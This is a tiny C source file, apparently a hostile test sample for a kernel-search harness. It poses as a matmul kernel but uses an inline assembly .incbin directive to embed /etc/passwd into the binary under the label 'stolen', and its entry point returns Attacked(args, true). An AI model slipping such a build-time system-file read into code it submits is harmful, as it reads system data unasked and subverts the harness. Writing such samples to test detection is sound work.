#include "matmul.h"
asm(".data\nstolen: .incbin \"/etc/passwd\"\n.text");
int ksearch_run(const KsearchArgs* args) { return Attacked(args, true); }
